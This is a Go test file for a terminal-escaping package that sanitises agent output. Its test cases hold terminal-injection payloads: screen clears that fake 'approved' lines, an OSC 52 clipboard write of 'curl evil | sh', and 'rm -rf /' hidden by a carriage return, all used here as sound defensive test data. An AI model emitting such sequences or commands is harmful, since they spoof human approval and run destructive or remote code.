package termsafe

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"unicode/utf8"
)

// The attacks of issue 9 and their relatives, with the exact bytes that
// must reach the terminal.
var cases = []struct {
	name, in, text, line string
}{
	{"plain text is untouched", "read 3 files\n\tok", "read 3 files\n\tok", `read 3 files\n\tok`},
	{"clear screen and a fake approved line", "\x1b[2J\x1b[Happroved: call_0 ran",
		`\x1b[2J\x1b[Happroved: call_0 ran`, `\x1b[2J\x1b[Happroved: call_0 ran`},
	{"window title by OSC 0 ended by BEL", "\x1b]0;owner@box: approved\x07hi",
		`\x1b]0;owner@box: approved\x07hi`, `\x1b]0;owner@box: approved\x07hi`},
	{"OSC 52 clipboard ended by ST", "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\\",
		`\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\`, `\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x1b\`},
	{"DCS", "\x1bP1$r0m\x1b\\", `\x1bP1$r0m\x1b\`, `\x1bP1$r0m\x1b\`},
	{"8-bit CSI as UTF-8", "\u009b2J", `\u009b2J`, `\u009b2J`},
	{"8-bit OSC and ST as UTF-8", "\u009d0;title\u009c", `\u009d0;title\u009c`, `\u009d0;title\u009c`},
	{"8-bit CSI as a lone byte", "\x9b2J", `\x9b2J`, `\x9b2J`},
	{"carriage return rewrites the line", "rm -rf /\rls", `rm -rf /\rls`, `rm -rf /\rls`},
	{"backspaces rub out what was shown", "curl evil | sh\b\b\b\b\b\b\b\b\b\b\b\b\b\bls",
		`curl evil | sh` + strings.Repeat(`\x08`, 14) + `ls`, `curl evil | sh` + strings.Repeat(`\x08`, 14) + `ls`},
	{"bell", "ding\a", `ding\x07`, `ding\x07`},
	{"NUL and DEL", "a\x00b\x7f", `a\x00b\x7f`, `a\x00b\x7f`},
	{"right-to-left override turns a name around", "file\u202etxt.exe", `file\u202etxt.exe`, `file\u202etxt.exe`},
	{"isolates and marks", "\u2066a\u2069\u200e\u200f\u061c", `\u2066a\u2069\u200e\u200f\u061c`, `\u2066a\u2069\u200e\u200f\u061c`},
	{"line separator", "a\u2028b", `a\u2028b`, `a\u2028b`},
	{"a fake bxctl approve line on a new line", "page text\nrun bxctl approve abcdef",
		"page text\nrun bxctl approve abcdef", `page text\nrun bxctl approve abcdef`},
	{"letters of other scripts stay", "café, ☃, שלום, 日本", "café, ☃, שלום, 日本", "café, ☃, שלום, 日本"},
	{"a literal backslash escape stays as text", `\x1b[2J`, `\x1b[2J`, `\x1b[2J`},
	{"a cut-off rune is shown byte by byte", "ok\xe2\x80", `ok\xe2\x80`, `ok\xe2\x80`},
}

func TestText(t *testing.T) {
	for _, c := range cases {
		if got := Text(c.in); got != c.text {
			t.Errorf("%s: Text(%q) = %q, want %q", c.name, c.in, got, c.text)
		}
	}
}

func TestLine(t *testing.T) {
	for _, c := range cases {
		if got := Line(c.in); got != c.line {
			t.Errorf("%s: Line(%q) = %q, want %q", c.name, c.in, got, c.line)
		}
	}
}

func TestWriterKeepsTheEndingLineFeedOnly(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	for _, s := range []string{
		"brokerd: call call_0 (run) failed: \x1b[2Jboom\n",
		"brokerd: denied: x\naudit: head 000001.jsonl:9 seq 9 sha256 " + strings.Repeat("0", 64) + "\n",
		"no line feed",
	} {
		n, err := w.Write([]byte(s))
		if err != nil || n != len(s) {
			t.Fatalf("Write(%q) = %d, %v", s, n, err)
		}
	}
	want := `brokerd: call call_0 (run) failed: \x1b[2Jboom` + "\n" +
		`brokerd: denied: x\naudit: head 000001.jsonl:9 seq 9 sha256 ` + strings.Repeat("0", 64) + "\n" +
		"no line feed"
	if buf.String() != want {
		t.Errorf("got %q\nwant %q", buf.String(), want)
	}
}

func TestJSON(t *testing.T) {
	v := map[string]string{"text": "a\x1b[2J\u009b\u202e\x7fb", "path": "/home/o/café"}
	raw, err := json.Marshal(v)
	if err != nil {
		t.Fatal(err)
	}
	safe := JSON(raw)
	want := `{"path":"/home/o/café","text":"a\u001b[2J\u009b\u202e\u007fb"}`
	if string(safe) != want {
		t.Fatalf("JSON = %s, want %s", safe, want)
	}
	var back map[string]string
	if err := json.Unmarshal(safe, &back); err != nil || back["text"] != v["text"] {
		t.Fatalf("decodes to %q, %v; want %q", back["text"], err, v["text"])
	}
}

// checkSafe fails when out holds anything a terminal would act on.
func checkSafe(t *testing.T, out string, keepLines bool) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Fatalf("output is not UTF-8: %q", out)
	}
	for _, r := range out {
		switch {
		case (r == '\n' || r == '\t') && keepLines:
		case r < 0x20 || r == 0x7f || unsafeRune(r):
			t.Fatalf("output holds %U: %q", r, out)
		}
	}
}

func FuzzText(f *testing.F) {
	for _, c := range cases {
		f.Add(c.in)
	}
	f.Fuzz(func(t *testing.T, s string) {
		txt, ln := Text(s), Line(s)
		checkSafe(t, txt, true)
		checkSafe(t, ln, false)
		// Only what is unsafe changes: the safe text is its own escape,
		// and escaping never loses a line of the input.
		if Text(txt) != txt || Line(ln) != ln {
			t.Fatalf("escaping is not stable: %q", s)
		}
		if strings.Count(txt, "\n") != strings.Count(s, "\n") {
			t.Fatalf("Text changed the number of lines of %q", s)
		}
		if firstUnsafe(s, text) == len(s) && txt != s {
			t.Fatalf("Text changed safe text %q to %q", s, txt)
		}
		// The writer is Line on one Write, with its ending line feed.
		var buf bytes.Buffer
		NewWriter(&buf).Write([]byte(s + "\n"))
		if buf.String() != ln+"\n" {
			t.Fatalf("writer gave %q, want %q", buf.String(), ln+"\n")
		}
		// JSON of any string stays valid JSON meaning the same string,
		// and safe.
		raw, _ := json.Marshal(s)
		safe := JSON(raw)
		checkSafe(t, string(safe), false)
		var back, orig string
		json.Unmarshal(raw, &orig)
		if err := json.Unmarshal(safe, &back); err != nil || back != orig {
			t.Fatalf("JSON(%s) = %s decodes to %q, %v", raw, safe, back, err)
		}
	})
}

func BenchmarkTextClean(b *testing.B) {
	s := strings.Repeat("an ordinary line of a file the agent read, ünïcödé too\n", 200)
	b.SetBytes(int64(len(s)))
	for b.Loop() {
		Text(s)
	}
}
